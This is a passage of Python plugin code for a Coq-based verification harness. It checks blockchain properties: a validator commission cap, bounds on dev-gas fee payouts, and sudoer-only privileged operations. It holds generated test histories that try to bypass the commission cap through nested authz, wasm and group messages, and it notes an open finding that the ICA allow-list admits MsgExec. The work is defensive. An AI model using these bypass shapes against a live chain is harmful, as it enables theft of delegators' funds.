        return "Unk %d %d %s" % (n.get("u", 0), n.get("g", 0), cs)
    raise ValueError(k)


EXT = {"": "NoExt", "evm": "EvmExt", "other": "OtherExt"}


def _txterm(tx):
    return "{| t_dt := (%d)%%Z; t_ext := %s; t_signer := %d; t_msgs := [%s] |}" % (
        tx.get("dt", 0), EXT[tx.get("ext", "")], tx["signer"], "; ".join("(%s)" % _tree(m) for m in tx["msgs"]))


def _vals(vs):
    return "; ".join("{| o_id := %d; o_rate := %s; o_max := %s; o_chg := %s |}" % (v["id"], _z(v["rate"]), _z(v["max"]), _z(v["chg"]))
                     for v in vs)


def to_coq_case(rec):
    items = []
    for tx, ob in zip(rec["input"]["txs"], rec["obs"] or []):
        o = "{| o_ok := %s; o_vals := [%s]; o_allmax := %s |}" % ("true" if ob["ok"] else "false", _vals(ob["vals"]), _z(ob["allmax"]))
        items.append("(%s, %s)" % (_txterm(tx), o))
    g = rec.get("genesis")
    gentxs = rec["input"].get("gentxs") or []
    if g is None:
        gen, setup = "None", 0
    else:
        gen = "(Some {| g_started := %s; g_vals := [%s]; g_allmax := %s |})" % (
            "true" if g["started"] else "false", _vals(g["vals"]), _z(g["allmax"]))
        setup = g.get("setup_dt", 0)
    return ("{| c_min_rate := %s; c_cap_linked := %s; c_group_linked := %s; c_gentxs := [%s]; c_genesis := %s; c_setup_dt := (%d)%%Z; c_txs := [%s] |}" % (
        _z(rec["input"].get("min_rate") or "0"), _z(rec.get("cap", "0")), "true" if rec.get("group_routed") else "false",
        "; ".join(_txterm(t) for t in gentxs), gen, setup,
        ";\n     ".join(items)))


CAP = 250000000000000000


def _walk(n, depth, wrappers, out):
    if n["k"] in ("create", "edit"):
        out.append((n, depth, tuple(wrappers)))
    for c in n.get("c") or []:
        _walk(c, depth + 1, wrappers + [n["k"]], out)


def _staking(rec):
    res = []
    g = rec.get("genesis")
    if g is not None:
        for tx in rec["input"].get("gentxs") or []:
            leaves = []
            for m in tx["msgs"]:
                _walk(m, 0, ["gentx"], leaves)
            res.append((dict(tx, dt=0), {"ok": g["started"], "class": "genesis-started" if g["started"] else "genesis-failed"}, leaves))
    for tx, ob in zip(rec["input"]["txs"], rec["obs"] or []):
        leaves = []
        for m in tx["msgs"]:
            _walk(m, 0, [], leaves)
        res.append((tx, ob, leaves))
    return res


def nontrivial(rec):
    elapsed = 0
    for tx, ob, leaves in _staking(rec):
        elapsed += tx["dt"]
        for n, d, ws in leaves:
            r = n.get("rate")
            if (d >= 1 or ws) and r is not None and int(r) > CAP:
                return True
            if d >= 1 and ob["ok"]:
                return True
            if n["k"] == "edit" and tx["dt"] >= 86400:
                return True
    return False


def classify(rec):
    ks = ["txs=%d" % len(rec["input"]["txs"]), "gentxs=%d" % len(rec["input"].get("gentxs") or [])]
    for tx, ob, leaves in _staking(rec):
        ks.append("tx:" + ob.get("class", "?"))
        if tx.get("ext"):
            ks.append("ext:" + tx["ext"])
        for n, d, ws in leaves:
            r = n.get("rate")
            over = r is not None and int(r) > CAP
            ks.append("staking:%s depth=%d %s %s" % (n["k"], min(d, 5), "over-cap" if over else "within-cap", "accepted" if ob["ok"] else "rejected"))
            if ws:
                ks.append("under:" + "/".join(ws[:3]))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    """Identify a cap violation by the wrapper path of the first over-cap staking message of an ACCEPTED tx."""
    for tx, ob, leaves in _staking(rec):
        if not ob["ok"]:
            continue
        for n, d, ws in leaves:
            r = n.get("rate")
            if r is not None and int(r) > CAP:
                if "gentx" in ws:
                    path = "gentx"
                elif not ws:
                    path = "top-level"
                elif "group" in ws:
                    path = "group-proposal"
                elif "carrier" in ws:
                    path = "unknown-carrier"
                elif "wasm" in ws:
                    path = "wasm-stargate"
                elif all(w == "exec" for w in ws):
                    path = "authz-exec"
                else:
                    path = "/".join(ws)
                return {"kind": "commission-cap-bypass", "path": path}
    return {"kind": "commission-above-cap", "path": "unknown"}


def input_size(inp):
    return len(json.dumps(inp))


def _drop_nodes(n):
    """smaller variants of one tree: unwrap a wrapper with one child / drop a sibling"""
    out = []
    cs = n.get("c") or []
    if cs:
        for i in range(len(cs)):
            if len(cs) > 1:
                out.append(dict(n, c=cs[:i] + cs[i + 1:]))
            for v in _drop_nodes(cs[i]):
                out.append(dict(n, c=cs[:i] + [v] + cs[i + 1:]))
    return out


def shrink_candidates(inp):
    out = []
    gts = inp.get("gentxs") or []
    if gts:
        if inp["txs"]:
            out.append(dict(inp, txs=[]))
        for i in range(len(gts)):
            if len(gts) > 1:
                out.append(dict(inp, gentxs=gts[:i] + gts[i + 1:]))
        for i, tx in enumerate(gts):
            ms = tx["msgs"]
            for j in range(len(ms)):
                if len(ms) > 1:
                    out.append(dict(inp, gentxs=gts[:i] + [dict(tx, msgs=ms[:j] + ms[j + 1:])] + gts[i + 1:]))
                for v in _drop_nodes(ms[j]):
                    out.append(dict(inp, gentxs=gts[:i] + [dict(tx, msgs=ms[:j] + [v] + ms[j + 1:])] + gts[i + 1:]))
    txs = inp["txs"]
    for i in range(len(txs)):
        if len(txs) > 1:
            out.append(dict(inp, txs=txs[:i] + txs[i + 1:]))
    for i, tx in enumerate(txs):
        ms = tx["msgs"]
        for j in range(len(ms)):
            if len(ms) > 1:
                out.append(dict(inp, txs=txs[:i] + [dict(tx, msgs=ms[:j] + ms[j + 1:])] + txs[i + 1:]))
            for v in _drop_nodes(ms[j]):
                out.append(dict(inp, txs=txs[:i] + [dict(tx, msgs=ms[:j] + [v] + ms[j + 1:])] + txs[i + 1:]))
    return out


def model_search(chk):
    """Sweep the MODEL (with the regenerated facts) over a fixed family of short histories inside Coq and
    return the ones whose final state breaks the cap, as harness inputs (replayed on the implementation)."""
    import os, re
    wd = os.path.join(chk.BUILD, "run", ID)
    os.makedirs(wd, exist_ok=True)
    path = os.path.join(wd, "sweep_C17.v")
    open(path, "w").write("""From Coq Require Import List Arith ZArith. Import ListNotations.
Require Import Nib.C17.AnteFacts Nib.C17.CarrierTree Nib.C17.Model Nib.C17.Spec Nib.C17.Check Nib.C17.Current Nib.C17.Sweep.
Set Printing Width 1000000. Set Printing Depth 1000000.
Definition bad := Eval vm_compute in sweep_bad current_cfg.
Print bad.
""")
    rc, out, _ = chk.coqc(path)
    if rc != 0:
        return []
    m = re.search(r"bad\s*=\s*(\[.*?\])\s*:", out, re.S)
    if not m:
        return []
    ids = [int(x) for x in re.findall(r"\d+", m.group(1))]
    return [SWEEP_INPUTS[i] for i in ids if i < len(SWEEP_INPUTS)]


def _cv(op, rate):
    return {"k": "create", "op": op, "rate": rate, "max": "1000000000000000000", "chg": "1000000000000000000"}


def _ex(g, *c):
    return {"k": "exec", "g": g, "c": list(c)}


def _wa(*c):
    return {"k": "wasm", "g": 0, "c": list(c)}


def _gp(p, *c):
    return {"k": "group", "g": p, "pol": 12, "try": True, "c": list(c)}


def _tx(signer, *msgs, dt=5, ext=""):
    t = {"dt": dt, "signer": signer, "msgs": list(msgs)}
    if ext:
        t["ext"] = ext
    return t


_R = ["250000000000000001", "260000000000000000", "900000000000000000"]
# must mirror coq/C17/Sweep.v `sweep_cases` (same order)
SWEEP_INPUTS = []
for _r in _R:
    SWEEP_INPUTS += [
        {"min_rate": "0", "txs": [_tx(1, _cv(1, _r))]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, _cv(1, _r)))]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, _ex(1, _cv(1, _r))))]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, _ex(1, _ex(1, _cv(1, _r)))))]},
        {"min_rate": "0", "txs": [_tx(0, _wa(_cv(10, _r)))]},
        {"min_rate": "0", "txs": [_tx(0, _wa(_ex(10, _cv(10, _r))))]},
        {"min_rate": "0", "txs": [_tx(0, _ex(0, _wa(_cv(10, _r))))]},
        {"min_rate": "0", "txs": [_tx(1, _cv(1, "100000000000000000")), _tx(1, {"k": "edit", "op": 1, "rate": _r}, dt=86400)]},
        {"min_rate": "0", "txs": [_tx(1, _cv(1, "100000000000000000")), _tx(1, _ex(1, {"k": "edit", "op": 1, "rate": _r}), dt=86400)]},
        {"min_rate": "0", "txs": [_tx(0, _wa(_cv(10, "100000000000000000"))), _tx(0, _wa({"k": "edit", "op": 10, "rate": _r}), dt=86400)]},
        {"min_rate": "0", "txs": [_tx(1, _cv(1, _r), ext="evm")]},
        {"min_rate": "0", "txs": [_tx(1, _cv(1, _r), ext="other")]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, {"k": "send", "from": 1}), _cv(1, _r))]},
        {"min_rate": "0", "txs": [_tx(1, {"k": "send", "from": 1}, _cv(1, _r))]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, _ex(1, {"k": "send", "from": 1}), _cv(1, _r)))]},
        {"min_rate": "0", "txs": [_tx(0, _wa(_ex(10, {"k": "send", "from": 10}), _cv(10, _r)))]},
        {"min_rate": "0", "txs": [_tx(1, _cv(1, "100000000000000000")), _tx(1, _ex(1, {"k": "send", "from": 1}), {"k": "edit", "op": 1, "rate": _r}, dt=86400)]},
        {"min_rate": "0", "txs": [_tx(1, _gp(1, _cv(12, _r)))]},
        {"min_rate": "0", "txs": [_tx(1, _ex(1, _gp(1, _cv(12, _r))))]},
        {"min_rate": "0", "txs": [_tx(0, _wa(_gp(10, _cv(12, _r))))]},
        {"min_rate": "0", "txs": [_tx(1, _gp(1, {"k": "send", "from": 12}, _cv(12, _r)))]},
        {"min_rate": "0", "txs": [_tx(1, _gp(1, _cv(12, "100000000000000000"))), _tx(1, _gp(1, {"k": "edit", "op": 12, "rate": _r}), dt=86400)]},
    ]

MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an executable model of DeliverTx (ante routing -> AnteDecoratorStakingCommission -> router "
                 "with authz / wasm / gov / ICA / x/group dispatch -> x/staking create/edit rules): C17_cap_partial — after EVERY history "
                 "of transactions and passed proposals, for message trees of any depth/shape/sibling order, any grants and "
                 "clocks, every validator's commission is <= 25% (structural induction over message trees + induction over "
                 "histories); C17_no_tx_sets_rate_above_cap — the literal per-transaction statement from any pre-state. What "
                 "the decorator and the wasm handler do is not hand-written but re-extracted from /repo on every run "
                 "(decorator list, type-switch clauses, operands/comparison/bound, MsgExec recursion, early returns, "
                 "MAX_COMMISSION literal, wasm handler check, extension-option routing; and, from the LINKED application at run "
                 "time, the set of routed message types that carry sdk.Msgs — cfg_ok demands that each is one the model has a "
                 "dispatch rule for and that x/group is not routed: C17_current_carriers_known) and the instantiated theorems "
                 "C17_holds_for_current_tree / C17_no_tx_sets_rate_above_cap_on_current_tree are re-checked. The model is run "
                 "against real BeginBlock/DeliverTx/EndBlock/Commit traces (accept/reject + every actor's commission after every "
                 "tx) and the proved-sound checker Pb is evaluated on those traces. Each needed fact has a refutation "
                 "theorem with a concrete history (pre-fix decorator, one-level decorator, early return, no wasm check, "
                 "gentx chain without decorator, x/group wired: C17_cap_refuted_group_wired)."),
        "design_ref": "DESIGN.md §5 C17",
    },
    "level_note": ("PARTIAL in two named hypotheses of C17_cap_partial: ica_safe (the ICA-host allow-list admits no staking "
                   "create/edit and no message carrier — the list installed by upgrade v1.3.0 contains authz.MsgExec and "
                   "ibc-go's default is allow-all: refuted in the model as C17_cap_refuted_ica_allows_exec, not drivable "
                   "without an IBC counter-party, OPEN finding) and gov_trusted (messages of a PASSED proposal are executed by "
                   "the EndBlocker without any check; refuted without it). Trusted: Coq kernel + vm_compute; the go/ast "
                   "extractor harness/gen/c17/antefacts (textual normal forms); the Go driver and tools/props/c17.py; the "
                   "SDK/wasmd/ibc-go dispatch rules as modelled (authz, wasm, gov-submit pinned by the correspondence; ICA host "
                   "and gov execution from reading the code; x/group submit+TRY pinned by the correspondence on the seeded tree "
                   "C17-group-module-wired, M=0). Execution of STORED group proposals (group MsgVote/MsgExec) is not in the "
                   "model: with x/group routed cfg_ok is false and nothing is claimed. Funds/keys/descriptions assumed fine."),
    "technique": "Coq proof (structural induction over message trees + induction over histories) over generated ante/wasm facts + differential correspondence on DeliverTx traces",
}
