"""C18 — dev-gas payouts are bounded by the paying tx's fee and go to registered owners."""
import json

ID = "C18"
GEN = "c18"
HARNESS_TEST = "TestC18"
COQ_MODEL = ["C18/Check.v", "Gen/C18Facts.v"]
COQ_PROOF_DEPS = ["C18/Proofs.v"]
COQ_OBLIG = ["C18/Property.v", "Gen/C18Oblig.v"]
CASES_HEADER = "Require Import Nib.C18.Model Nib.C18.Spec Nib.C18.Check Nib.Gen.C18Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("a case = 2-5 fresh wasm contracts (creator / admin drawn from keyed accounts, none, gov module, another "
        "contract, a key-less account; hello_world_counter or reflect) and a history of 4-14 steps on one long-lived "
        "chain: x/devgas parameter changes by MsgUpdateParams (3/4) and by the module's InitGenesis (1/4) at any point "
        "of the history (enabled/disabled, DeveloperShares in [0,1] incl. 0, 1, 1/2, 1/3, 1e-18, AllowedDenoms empty / "
        "subsets / repeats; one third drawn from the corners, half of those the all-off value {disabled, share 0, no "
        "denoms}; 1/12 invalid: share <0, >1, nil), a switch-off pattern (registrations, then disabled-by-params/genesis, "
        "execute of a registered contract with a non-empty fee, a registry message, switched on again), "
        "wasm admin changes, block boundaries, and signed txs through DeliverTx with 0-3 fee denoms "
        "(amounts 1-12, boundary values, up to 1e30) carrying 1-6 messages: top-level MsgExecuteContract (registered / "
        "unregistered / repeated / missing contract, bad payload, nested dispatch through reflect), authz-wrapped "
        "messages, Register/Update/Cancel by authorities, former admins and strangers, bank sends. ~20% malformed "
        "stream. non-trivial = some delivered tx paid a withdrawer, or a registry change was refused as unauthorised "
        "/ invalid-withdrawer, or a registered contract was executed with a non-empty fee while the parameters as set "
        "say disabled; distinct = distinct input")
ASSUMPTIONS = [
    "whether a wasm execute succeeds is predicted from the payload flag, contract existence and reflect ownership (wasm VM not modelled)",
    "balances are re-read at block boundaries (distribution sweeping the fee collector is outside the model)",
    "wasm admin changes and x/devgas param changes happen between transactions (environment steps), not inside a tx",
    "the stored ModuleParams item is always written before it is read (InitGenesis / MsgUpdateParams): the never-written store of a module added by an upgrade without InitGenesis is outside the histories; DeveloperShares.IsNil() is false on every stored value",
    "the genesis step re-runs the module's InitGenesis (JSON genesis state, params only) on the running chain; the registry is left as it is",
]
TRUSTED = ["coq/Lib/Dec.v rendering of LegacyDec MulInt/QuoInt64/RoundInt (validated by the correspondence run)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 3600}

ID_COLLECTOR, ID_GOV, ID_DISTR = 0, 1, 2
ID_CONTRACT0, ID_NOCONTRACT = 8, 99
NDENOMS = 3


def _oa(x):
    return "None" if x is None or x < 0 else "(Some %d)" % x


def _nl(xs):
    return "[" + "; ".join("%d" % x for x in xs) + "]"


def _tbl(rows):
    return "[" + "; ".join("((%d,%d),%s)" % (int(a), int(d), _z(v)) for a, d, v in rows) + "]"


def _z(v):
    return "(%d)%%Z" % int(v)


def _reg(rows):
    return "[" + "; ".join("(%d, %s)" % (c, "None" if d < 0 else "fs %d %d" % (d, w)) for c, d, w in rows) + "]"


def _msg(m):
    k = m["k"]
    if k == "exec":
        n = m.get("nested", 0)
        return "MExec %d %s %s" % (m.get("c", 0), "true" if m.get("good") else "false", _oa(n - 1 if n > 0 else None))
    if k == "wrap":
        inner = m.get("m") or {"k": "other", "good": True}
        return "MWrap (%s)" % _msg(inner)
    if k == "reg":
        return "MRegister %d %d" % (m.get("c", 0), m.get("w", 0))
    if k == "upd":
        return "MUpdate %d %d" % (m.get("c", 0), m.get("w", 0))
    if k == "cancel":
        return "MCancel %d" % m.get("c", 0)
    return "MOther %s" % ("true" if m.get("good") else "false")


def _fee(st):
    """the sdk.Coins the driver builds: denoms mod 3, non-positive amounts dropped, equal denoms merged, sorted"""
    acc = {}
    for d, a in st.get("fee") or []:
        a = int(a)
        if a <= 0:
            continue
        d = int(d) % NDENOMS
        acc[d] = acc.get(d, 0) + a
    return sorted(acc.items())


def _share(st):
    """raw LegacyDec integer; the nil Dec (refused by Validate) is rendered as an invalid negative value"""
    sh = st.get("share", "0")
    if sh == "nil":
        return -1
    try:
        return int(sh)
    except ValueError:
        return 0


def _signer(st):
    return 3 + (st.get("signer", 0) - 3) % 3


def _resolve(i, n):
    """address id the driver resolves [i] to: unknown ids become the no-contract address"""
    if i in (0, 1, 2, 3, 4, 5, 6, 7, ID_NOCONTRACT) or ID_CONTRACT0 <= i < ID_CONTRACT0 + n:
        return i
    return ID_NOCONTRACT


def _norm_msg(m, n):
    m = dict(m)
    for f in ("c", "w"):
        if f in m or m["k"] in ("exec", "reg", "upd", "cancel"):
            m[f] = _resolve(m.get(f, 0), n)
    if m.get("nested", 0) > 0:
        m["nested"] = 1 + _resolve(m["nested"] - 1, n)
    if m.get("m"):
        m["m"] = _norm_msg(m["m"], n)
    return m


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"]
    cons = inp.get("contracts") or []
    n = len(cons)
    wasm = []
    for i, c in enumerate(cons):
        creator = _resolve(c.get("creator", 0), i)  # only earlier contracts exist when this one is instantiated
        admin = c.get("admin", -1)
        admin = None if admin < 0 else _resolve(admin, i)
        owner = creator if c.get("kind") == "reflect" else None
        wasm.append("(%d, ci %d %s %s)" % (ID_CONTRACT0 + i, creator, _oa(admin), _oa(owner)))
    ids = list(range(0, 8)) + [ID_CONTRACT0 + i for i in range(n)] + [ID_NOCONTRACT]
    steps = []
    for st, so in zip(inp.get("steps") or [], obs["steps"]):
        op = st["op"]
        if op in ("params", "genesis"):
            al = [d % NDENOMS for d in st.get("allowed") or []]
            steps.append("%s (mkp %s %s %s) %s" % ("CParams" if op == "params" else "CGenesis",
                                                   "true" if st.get("enabled") else "false", _z(_share(st)), _nl(al),
                                                   "true" if so.get("ok") else "false"))
        elif op == "admin":
            if not so.get("ok"):
                continue
            a = st.get("admin", -1)
            steps.append("CAdmin %d %s" % (_resolve(st.get("c", 0), n), _oa(None if a < 0 else _resolve(a, n))))
        elif op == "block":
            steps.append("CBlock %s" % _tbl(so.get("bal") or []))
        elif op == "tx":
            fee = "[" + "; ".join("(%d,%s)" % (d, _z(a)) for d, a in _fee(st)) + "]"
            msgs = "[" + "; ".join(_msg(_norm_msg(m, n)) for m in st.get("msgs") or []) + "]"
            o = "mko %d %d %s %s" % (so["class"], so["err"], _tbl(so.get("delta") or []), _reg(so.get("reg") or []))
            steps.append("CTx (mkt %d %s %s) (%s)" % (_signer(st), fee, msgs, o))
    return ("{| c_env := {| e_collector := 0; e_gov := 1; e_blocked := [0; 2];\n"
            "                e_allowed_once := allowed_fees_break_after_first_match;\n"
            "                e_defaults := devgas_default_params; e_san := devgas_sanitize_rules |};\n"
            "     c_wasm := [%s];\n     c_ids := %s; c_denoms := [0;1;2];\n     c_bal0 := %s;\n     c_reg0 := %s;\n"
            "     c_steps := [\n       %s] |}" % ("; ".join(wasm), _nl(ids), _tbl(obs["bal0"]), _reg(obs["reg0"]),
                                                  ";\n       ".join(steps)))


def _txs(rec):
    for st, so in zip(rec["input"].get("steps") or [], rec["obs"]["steps"]):
        if st["op"] == "tx":
            yield st, so


def _paid(st, so):
    """some account other than the signer and the collector gained, or the signer's loss is below the fee"""
    s = _signer(st)
    for a, d, v in so.get("delta") or []:
        if int(a) not in (s, ID_COLLECTOR) and int(v) > 0:
            return True
    fee = dict(_fee(st))
    for a, d, v in so.get("delta") or []:
        if int(a) == s and -int(v) < fee.get(int(d), 0):
            return True
    return False


def _disabled_execs(rec):
    """delivered txs with a non-empty fee and a top-level execute of a contract registered before the tx, while the
    parameters AS SET (last accepted params / genesis step) say disabled"""
    enabled = True
    reg = {c for c, d, w in rec["obs"].get("reg0") or [] if d >= 0}
    n = len(rec["input"].get("contracts") or [])
    out = 0
    for st, so in zip(rec["input"].get("steps") or [], rec["obs"]["steps"]):
        if st["op"] in ("params", "genesis"):
            if so.get("ok"):
                enabled = bool(st.get("enabled"))
        elif st["op"] == "tx":
            if not enabled and so["class"] != 1 and _fee(st) and any(
                    m["k"] == "exec" and _resolve(m.get("c", 0), n) in reg for m in st.get("msgs") or []):
                out += 1
            reg = {c for c, d, w in so.get("reg") or [] if d >= 0}
    return out


def nontrivial(rec):
    for st, so in _txs(rec):
        if so["class"] != 1 and _paid(st, so):
            return True
        if so["class"] == 2 and so["err"] in (6, 10):
            return True
    return _disabled_execs(rec) > 0


def _kinds(m, depth=0):
    if m["k"] == "wrap":
        inner = m.get("m") or {"k": "other"}
        return ["wrap"] + _kinds(inner, depth + 1)
    return [m["k"] + ("@nested" if depth else "")]


def classify(rec):
    ks = ["contracts=%d" % len(rec["input"].get("contracts") or [])]
    for c in rec["input"].get("contracts") or []:
        a = c.get("admin", -1)
        ks.append("admin:" + ("none" if a < 0 else "gov" if a == 1 else "contract" if a >= 8 else "creator" if a == c.get("creator") else "other"))
        ks.append("creator:" + ("contract" if c.get("creator", 0) >= 8 else "account"))
    for st, so in zip(rec["input"].get("steps") or [], rec["obs"]["steps"]):
        ks.append("step:" + st["op"])
        if st["op"] in ("params", "genesis"):
            sh = _share(st)
            if not so.get("ok"):
                ks.append("params:refused")
            elif not st.get("enabled") and sh == 0 and not st.get("allowed"):
                ks.append("params:all-off" + ("(genesis)" if st["op"] == "genesis" else ""))
            elif st.get("enabled") and sh in (0, 10 ** 18):
                ks.append("params:enabled-share-0-or-1")
            ks.append("share:" + ("0" if sh == 0 else "1" if sh == 10 ** 18 else "1/2" if sh == 5 * 10 ** 17 else "1/3" if sh == 333333333333333333 else "other"))
            ks.append("allowed=%d" % len(st.get("allowed") or []))
            if not st.get("enabled"):
                ks.append("disabled")
        if st["op"] == "tx":
            ks.append("class=%d" % so["class"])
            ks.append("err=%d" % so["err"])
            ks.append("fee_denoms=%d" % len(_fee(st)))
            if any(a <= 2 for _, a in _fee(st)):
                ks.append("fee:1-2 units")
            if any(a >= 10 ** 18 for _, a in _fee(st)):
                ks.append("fee:>=1e18")
            nex = 0
            for m in st.get("msgs") or []:
                for k in _kinds(m):
                    ks.append("msg:" + k)
                if m["k"] == "exec":
                    nex += 1
            ks.append("top_execs=%d" % min(nex, 6))
            if so["class"] != 1 and _paid(st, so):
                ks.append("payout")
    if _disabled_execs(rec):
        ks.append("registered-exec-while-disabled-as-set")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    dup = False
    for st in rec["input"].get("steps") or []:
        if st["op"] == "params":
            al = [d % NDENOMS for d in st.get("allowed") or []]
            if len(set(al)) != len(al):
                dup = True
    kinds = sorted({k for st, _ in _txs(rec) for m in st.get("msgs") or [] for k in _kinds(m)})
    return {"kind": "duplicate-allowed-denoms" if dup else "payout-or-authority", "msgs": kinds}


def input_size(inp):
    return 100 * len(inp.get("steps") or []) + 10 * len(inp.get("contracts") or []) + sum(
        len(st.get("msgs") or []) + len(st.get("fee") or []) for st in inp.get("steps") or [])


def shrink_candidates(inp):
    out = []
    steps = inp.get("steps") or []
    for i in range(len(steps)):
        out.append(dict(inp, steps=steps[:i] + steps[i + 1:]))
    for i, st in enumerate(steps):
        if st["op"] != "tx":
            continue
        ms = st.get("msgs") or []
        if len(ms) > 1:
            for j in range(len(ms)):
                out.append(dict(inp, steps=steps[:i] + [dict(st, msgs=ms[:j] + ms[j + 1:])] + steps[i + 1:]))
        fee = st.get("fee") or []
        if len(fee) > 1:
            for j in range(len(fee)):
                out.append(dict(inp, steps=steps[:i] + [dict(st, fee=fee[:j] + fee[j + 1:])] + steps[i + 1:]))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Machine-checked (Coq 8.16, no axioms) theorems over an executable model of the fee-deduct + dev-gas payout ante "
                 "step and of the three fee-share registry handlers: C18_tx_satisfies_property / C18_history_satisfies_property "
                 "state, for EVERY state, transaction and history (any fee coins incl. 1-2 units, any DeveloperShares in [0,1], any "
                 "AllowedDenoms list incl. repeats, any number/mix of registered and unregistered executes, any register/update/"
                 "cancel attempt by any signer, parameter changes by MsgUpdateParams and by genesis at any point of the history "
                 "at every value incl. the all-zero corner), and AGAINST THE PARAMETERS AS SET by the last accepted update / genesis "
                 "(the model reads them the way the keeper does, through ModuleParams.Sanitize of the stored item, whose rewrites "
                 "are an extracted fact proved meaning-preserving on every run: C18_sanitize_keeps_the_meaning_of_params; "
                 "C18_disabled_as_set_pays_nothing; C18_all_zero_params_read_as_defaults_refuted for the variant), that payouts go only to the registered withdrawers of top-level executes, are an "
                 "equal split, total at most share x allowed fee + one unit per recipient and denom (C18_payout_bound proves the "
                 "exact n/2 of banker's rounding), never exceed the tx's own fee + n, are zero when disabled/unregistered/in other "
                 "denoms, come out of the collector (delta = fee - payouts, conservation), and that registry entries change only "
                 "by the contract's admin (creator when no admin) or as self-registration of a factory contract. The decorator "
                 "order, the payout formula text, the once-per-coin rule of getAllowedFees, the blocked fee collector and the "
                 "guard-before-write order of the handlers are re-extracted from /repo on every run and re-proved "
                 "(Gen/C18Oblig.v); the model is run against real DeliverTx traces (fee-collector / withdrawer deltas, registry, "
                 "accept/reject class) and the proved-sound checker Pb_tx is evaluated on those traces."),
        "design_ref": "DESIGN.md §5 C18",
    },
    "level_note": ("Hypotheses of the theorems: fee collector blocked, fee coin counted once and Sanitize meaning-preserving "
                   "(generated facts, discharged for the extracted configuration: C18_property_holds_for_the_extracted_configuration), "
                   "share in [0,1] and stored item = what was set up to meaning (enforced by the modelled Validate / invariant along histories), non-negative fee amounts (sdk.Coins invariant). "
                   "Trusted: Coq kernel + vm_compute, Lib/Dec.v, the go/ast extractor harness/gen/c18, the Go driver's "
                   "canonicalisation (address ids, error enum), this plugin's rendering. Not modelled: wasm VM (execute success is "
                   "predicted from payload flag / existence / reflect owner), distribution's sweep of the collector (balances "
                   "re-read at block boundaries), registry messages signed by contracts through wasm dispatch (covered by the "
                   "theorems, not driven), param/admin changes inside a tx. The property's allowance (+1 unit per recipient) lets "
                   "the total exceed the fee (fee 3, two recipients: 4 paid); such a tx is rejected when the collector cannot cover it."),
    "technique": "Coq proof (arithmetic bound, invariant over message lists and histories) + generated facts + differential correspondence on DeliverTx traces",
}
