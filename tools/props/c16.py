"""C16 — privileged chain operations succeed only for current sudoers."""
import json

ID = "C16"
GEN = "c16"
HARNESS_TEST = "TestC16"
COQ_MODEL = ["C16/Check.v", "Gen/C16Facts.v"]
COQ_PROOF_DEPS = ["C16/Proofs.v", "C16/ProofsSpelled.v"]
COQ_OBLIG = ["C16/Property.v", "Gen/C16Oblig.v"]
CASES_HEADER = "Require Import Nib.C16.Model Nib.C16.Spec Nib.C16.Spelled Nib.C16.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("case = world (22 % of the generated cases: a fresh chain started from a GENERATED sudo genesis — 0-7 contracts in random order with duplicates, root listed or not — followed by gated ops of all four kinds from every account before any edit, after a root hand-over and after an edit; otherwise sudo root, 0-4 sudo contracts, 0-4 authz grants saved through real MsgGrant txs) + 3-10 txs of 0-3 "
        "messages (MsgEditSudoers add/remove/unknown action/malformed contract, MsgChangeRoot, MsgEditOracleParams, "
        "MsgEditInflationParams valid/invalid, MsgToggleInflation, MsgSudoSetDenomMetadata valid/invalid, MsgExec trees up "
        "to depth 2) signed by root / listed / removed / former-root / unrelated accounts, each delivered through DeliverTx; "
        "actors 0-5 are key accounts, actors 6-7 two reflect.wasm contract instances of the case owned by key accounts (any actor "
        "can be root - 1 case in 7 a contract -, listed, granter, grantee); about a third of the txs carry a MsgExecuteContract "
        "whose contract dispatches Stargate messages through app/wasmext handleSdkMessage: its own privileged messages, leaves "
        "in somebody else's name, MsgExec with itself as grantee (inner signer itself / granter / sudoer without grant), "
        "MsgExec with a SPOOFED grantee (the sudoer named by the inner message), nested execs, contract-calls-contract, exec "
        "around wasm, called by owner or not; txs needing a contract's signature are signed with a foreign key; "
        "every address field of every leaf (sender, new_root, each contracts entry) is written in lower case (76 %), valid upper "
        "case (21 %) or undecodable mixed case (3 %), at top level, under MsgExec and dispatched by contracts; sudoers read back as accounts; "
        "9 fixed opener histories first; non-trivial = after an accepted sudoers change, a later privileged message comes from "
        "an account whose permission differs from its initial one (stale-permission shape) or sits inside a carrier, or a "
        "contract dispatches a MsgExec / a leaf in a foreign name / its own message as a current sudoer, or a leaf carries an upper-case address; "
        "distinct = distinct input")
ASSUMPTIONS = [
    "payload validity of a gated message (valid / refused by ValidateBasic / refused by the handler) is a generator label; a wrong label shows as a mismatch",
    "authz grants are fixed per history (saved before the first tx, GenericAuthorization without expiry)",
    "the tx is correctly signed by every top-level signer that is a key account (signature / sequence failures are out of scope; a contract cannot sign)",
    "contracts are re-dispatching contracts (reflect.wasm: only the owner may call, at least one message, a failing message fails the call); other carriers (gov proposals, ICA host) are out of scope",
]
TRUSTED = ["sha256 digests over the raw KV iteration of the sudo / oracle / inflation stores and the bank denom-metadata prefix"]

_GK = {"oracle": "GOracle", "infl_edit": "GInflEdit", "infl_toggle": "GInflToggle", "meta": "GMeta"}
_MK = {"edit": "KEdit", "root": "KChangeRoot", "exec": "KExec", "wasm": "KWasm"}
_NKEYS = 6  # ids 0..5 key accounts, 6 and 7 the two contracts of the case


def _nats(xs):
    return "[" + "; ".join(str(int(x)) for x in xs) + "]"


def _b(x):
    return "true" if x else "false"


_SP = {0: "SpLower", 1: "SpUpper", 2: "SpBad"}


def _astr(i, sp):
    return "(mkAStr %d %s)" % (int(i), _SP.get(int(sp or 0), "SpBad"))


def _msg(m):
    """the message as written: address fields of the leaves with their spelling (Spelled.smsg)"""
    t = m["t"]
    if t == "edit":
        a = {"add": "Add", "remove": "Remove"}.get(m.get("action"), "UnknownAction")
